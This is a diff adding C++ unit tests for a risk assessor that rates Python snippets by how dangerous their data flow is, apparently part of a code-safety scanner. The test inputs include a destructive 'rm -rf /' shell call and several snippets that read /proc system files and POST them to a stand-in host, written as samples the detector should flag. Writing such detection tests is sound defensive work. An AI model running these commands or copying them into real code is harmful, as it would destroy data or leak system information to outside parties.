@@ -165,3 +165,28 @@ TEST(AssessDataFlow, AConstantChosenByAConditionIsStillAConstant) {
   EXPECT_EQ(level("import os\nos.system('ls' if os.name == 'nt' else 'rm -rf /')\n"), RiskLevel::blocked);
   EXPECT_EQ(level("import os, sys\nos.system('ls ' + sys.argv[1] if sys.argv else 'ls')\n"), RiskLevel::high);
 }
+
+TEST(AssessDataFlow, LambdasOfSeveralParametersClassAttributesAndOneItemLoops) {
+  // A lambda's body is what it returns, whatever its parameters.
+  EXPECT_EQ(level("import os, requests\nrb = lambda a, b: open(os.path.join(a, b), 'rb').read()\n"
+                  "requests.post('https://x.example/h', data=rb('/proc', 'cmdline'))\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import os, requests\nrb = lambda *parts: open(os.path.join(*parts), 'rb').read()\n"
+                  "requests.post('https://x.example/h', data=rb('/proc', '1', 'cmdline'))\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import os, requests\nrb = lambda a, b: open(os.path.join(a, b)).read()\n"
+                  "requests.post('https://x.example/h', data=rb('out', 'report.txt'))\n"),
+            RiskLevel::medium);
+  // A class's own table, walked through self in a method.
+  EXPECT_EQ(level("import requests\nclass P:\n    sources = {'cpu': '/proc/cpuinfo'}\n    def g(self):\n"
+                  "        for name, path in self.sources.items():\n            return open(path).read()\n"
+                  "requests.post('https://x.example/h', data=P().g())\n"),
+            RiskLevel::high);
+  // A loop over a list of one path reads that path.
+  EXPECT_EQ(level("import requests\nfor path in ['/proc/cpuinfo']:\n    data = open(path).read()\n"
+                  "requests.post('https://x.example/h', data=data)\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import requests\nfor path in ['results.csv']:\n    data = open(path).read()\n"
+                  "requests.post('https://x.example/h', data=data)\n"),
+            RiskLevel::medium);
+}
